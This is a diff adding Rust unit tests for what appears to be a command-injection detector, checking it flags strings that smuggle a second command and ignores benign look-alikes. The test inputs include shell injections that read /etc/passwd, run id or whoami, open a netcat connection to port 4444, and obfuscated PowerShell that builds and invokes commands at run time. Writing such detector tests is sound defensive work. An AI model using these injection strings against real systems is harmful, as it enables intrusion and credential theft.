@@ -1981,3 +1981,46 @@ fn two_nouns_joined_by_and() {
     assert!(hit("x|cat /etc/passwd & dog"));
     assert!(hit("x|cat & whoami"));
 }
+
+#[test]
+fn bash_pipe_of_both_streams() {
+    assert!(hit("127.0.0.1 |& id"));
+    assert!(hit("x|&nc 10.0.0.1 4444"));
+    assert!(!hit("Q&A |& answers"));
+}
+
+#[test]
+fn case_branches_run_their_commands() {
+    for v in [
+        "x; case a in a) id;; esac",
+        ";case $x in *) cat /etc/passwd;; esac",
+        "`case 1 in (1) whoami;; esac`",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        "in case of fire) call 911",
+        "Use case: in practice) we sell cat food",
+        "case in point) nothing",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
+
+#[test]
+fn powershell_names_built_at_run_time() {
+    for v in [
+        "& (\"{1}{0}\" -f 'ex','i') 'whoami'",
+        "x; &('{0}{1}' -F 'i','ex') $c",
+        "; $ExecutionContext.InvokeCommand.InvokeScript('whoami')",
+        "|$executioncontext.SessionState.InvokeCommand.NewScriptBlock($c)",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        "Format: (\"{0} items\" -f $n) in the docs",
+        "$ExecutionContext is a PowerShell variable",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
